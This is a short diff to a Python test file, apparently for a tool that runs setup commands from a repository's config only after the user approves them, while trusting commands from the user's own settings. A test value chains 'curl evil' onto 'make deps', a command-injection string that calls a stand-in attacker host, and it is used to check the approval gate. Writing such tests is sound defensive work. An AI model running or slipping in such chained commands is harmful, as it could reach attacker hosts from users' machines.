@@ -162,7 +162,7 @@ def test_submodules_come_from_the_bosss_own_clones(repo: RepoKit, tmp_path: Path
 def test_setup_commands_of_the_repository_run_only_after_approval_of_their_text(repo: RepoKit) -> None:
     repo.write(".wt.toml", 'setup_commands = ["make deps"]\n')
     here = discover(repo.path)
-    settings = Settings().with_values({"setup_commands": ["make deps", "mine"]}, "the test")
+    settings = Settings().with_values({"setup_commands": ["mine"]}, "the test")
 
     assert setup.commands_to_run(here, settings) == (["mine"], ["make deps"])
     setup.approve(here, ["make deps"])
@@ -170,6 +170,8 @@ def test_setup_commands_of_the_repository_run_only_after_approval_of_their_text(
 
     repo.write(".wt.toml", 'setup_commands = ["make deps; curl evil"]\n')
     assert setup.commands_to_run(here, Settings()) == ([], ["make deps; curl evil"])
+    own = Settings().with_values({"setup_commands": ["make deps; curl evil"]}, "the test")
+    assert setup.commands_to_run(here, own) == (["make deps; curl evil"], []), "the user's own word is enough"
 
 
 def test_an_approval_is_for_one_repository(repo: RepoKit, tmp_path: Path) -> None:
